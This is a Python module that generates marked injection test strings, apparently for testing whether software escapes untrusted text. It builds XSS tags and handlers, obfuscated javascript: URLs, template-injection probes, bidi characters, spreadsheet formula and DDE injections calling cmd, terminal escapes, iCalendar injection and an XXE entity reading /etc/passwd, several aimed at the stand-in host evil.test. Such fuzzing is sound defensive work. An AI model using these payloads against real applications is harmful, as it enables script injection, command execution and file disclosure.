# ruff: noqa: E501
"""A small grammar of words that would do something if any place took them for more than words. Each holds a mark by which it is found again."""

import random
from collections.abc import Callable, Iterator
from itertools import cycle

TAGS = ("script", "img src=x", "svg", "iframe src=x", "object data=x", "form action=//evil.test", "input autofocus", "math", "style", "link rel=stylesheet href=//evil.test",
        "base href=//evil.test/", "meta http-equiv=refresh content=0", "video src=x", "details open", "template", "a href=x", "textarea", "body")  # fmt: skip
HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationend", "onpointerenter", "onbegin")
ENDS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</style>", "</script>", "]]>", "`>", "</text></svg>", "?>", "</bdi>")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", " javascript:", "vbscript:", "data:text/html,<script>", "//evil.test/", "https:evil.test/", "\\\\evil.test\\",
           "file:///etc/passwd?", "feed:javascript:", "view-source:javascript:", "javascript&colon;", "jav&#x0A;ascript:", "blob:javascript:")  # fmt: skip
SVG = ("<svg><animate onbegin={act} attributeName=x>", "<svg><a xlink:href='javascript:{act}'>", "<svg><foreignObject><script>{act}</script>", "<svg><use href='data:image/svg+xml,#{mark}'/>",
       "<svg><set attributeName=href to='javascript:{act}'>", "<image href=//evil.test/ onload={act}>", "<svg><style>@import '//evil.test/';</style>", "<svg><script href=//evil.test/>",
       "<tspan onclick={act}>")  # fmt: skip
MARKDOWN = ("[{mark}](javascript:{act})", "![{mark}](http://evil.test/p.png)", "<javascript:{act}>", "[x]: javascript:{act}\n[x]", "\n# {mark}\n", "| {mark} |\n|---|\n| <img src=x onerror={act}> |",
            "```\n{mark}\n``` <b onclick={act}>", "[^1]: {mark}\n[^1]", "**{mark}**<!-- ", "\n> {mark}\n\n---\n", "`{mark}` <http://evil.test/{mark}>", "\\<img src=x onerror={act}>")  # fmt: skip
TEMPLATES = ("{{{{7*191}}}}", "{{% raw %}}<b onclick={act}>", "${{7*191}}", "<%= 7*191 %>", "#{{7*191}}", "{{{{ request.app.state }}}}", "{{{{ ''.__class__.__mro__ }}}}", "{{# {mark}", "@{{7*191}}",
             "*{{7*191}}", "{{{{ {mark}|safe }}}}")  # fmt: skip
TURNS = ("\u202e", "\u202d", "\u2066", "\u2067", "\u200f", "\u061c", "\u200b", "\u2028", "\u2029", "\ufeff", "\u202c", "\u2069")
FORMULAS = ('=HYPERLINK("http://evil.test/","{mark}")', "=cmd|' /C calc'!A0", "+{mark}", "-2+3+cmd|'{mark}'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", '\n=IMPORTXML("http://evil.test/","//a")',
            ";=1+1", ",=1+1", '"=1+1', "=DDE(\"cmd\";\"{mark}\")")  # fmt: skip
ESCAPES = ("\x1b]0;{mark}\x07", "\x1b[2J", "\x9b31m", "\b\b\b\b", "\r{mark}", "\x1bP{mark}\x1b\\", "\x1b]8;;http://evil.test/\x07{mark}\x1b]8;;\x07", "\x1b[8m", "\x0e", "[/{mark}]", "[red]", "[link=http://evil.test/]",
           "\x85{mark}", "\x7f")  # fmt: skip
CALENDAR = (
    "\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:http://evil.test/",
    "\nATTACH:http://evil.test/",
    ";VALUE=URI:http://evil.test/",
    "\\nEND:VCALENDAR",
    "\r\n X-{mark}:1",
    ":;,\\",
    '";X={mark}:',
)
OFFICE = ("]]><w:instrText>DDEAUTO cmd {mark}</w:instrText>", "<!DOCTYPE a [<!ENTITY {mark} SYSTEM 'file:///etc/passwd'>]>&{mark};", "<?xml-stylesheet href='//evil.test/'?>", "</w:t></w:r><w:hyperlink r:id='{mark}'>",
          "&{mark};", "\x0b", "\ufffe", "{{ HYPERLINK \"http://evil.test/\" }}", "</a:t><a:hlinkClick/>", "{{ INCLUDETEXT {mark} }}")  # fmt: skip
CODES: tuple[Callable[[str], str], ...] = (
    lambda words: "".join(f"&#{ord(c)};" for c in words),
    lambda words: "".join(f"&#x{ord(c):x}" for c in words),
    lambda words: words.replace("<", "&lt;").replace(">", "&gt;"),
    lambda words: words.replace("<", "&amp;lt;"),
    lambda words: "".join(f"%{ord(c):02X}" for c in words),
    lambda words: words.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda words: words.replace("<", "\\x3c"),
    lambda words: words.replace("<", "＜").replace(">", "＞"),
    lambda words: words.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda words: words.replace("<", "<\u200b").upper(),
    lambda words: words.replace("<", "<\n"),
)  # fmt: skip


def mark(number: int) -> str:
    return f"q{number:03}z"


def words_of(kind: str, number: int, chance: random.Random) -> str:
    """One sentence of the grammar."""
    of = {"mark": mark(number), "act": f"alert(/{mark(number)}/)"}
    element = f"<{chance.choice(TAGS)} {chance.choice(HANDLERS)}={chance.choice(('', chr(34), chr(39)))}{of['act']}"

    def one_of(some: tuple[str, ...]) -> str:
        return chance.choice(some).format(**of)

    match kind:
        case "tag":
            return chance.choice(ENDS) + element + chance.choice((">", "", "/>", " x"))
        case "attribute":
            quote = chance.choice(('"', "'", "`", ""))
            return f"x{quote} {chance.choice(HANDLERS)}={quote}{of['act']}{quote} style={quote}position:fixed"
        case "code":
            return chance.choice(CODES)(element + ">")
        case "address":
            return chance.choice(SCHEMES) + of["act"]
        case "direction":
            return f"{chance.choice(TURNS)}{chance.choice(TURNS)}{element}>"
        case _:
            return one_of({"svg": SVG, "markdown": MARKDOWN, "template": TEMPLATES, "formula": FORMULAS, "escape": ESCAPES, "calendar": CALENDAR, "office": OFFICE}[kind])  # fmt: skip


KINDS = (
    "tag",
    "attribute",
    "code",
    "address",
    "svg",
    "markdown",
    "template",
    "direction",
    "formula",
    "escape",
    "calendar",
    "office",
)


def payloads(count: int, seed: int = 1) -> list[str]:
    """So many, no two with the same sentence, of every kind by turns; each ends with its mark."""
    return list(_payloads(count, random.Random(seed)))


def _payloads(count: int, chance: random.Random) -> Iterator[str]:
    seen: set[str] = set()
    number = 0
    for kind in cycle(KINDS):
        if number == count:
            return
        words = words_of(kind, number, chance)
        sentence = words.replace(mark(number), "")
        if sentence not in seen:
            seen.add(sentence)
            yield f"{words}{mark(number)}"
            number += 1
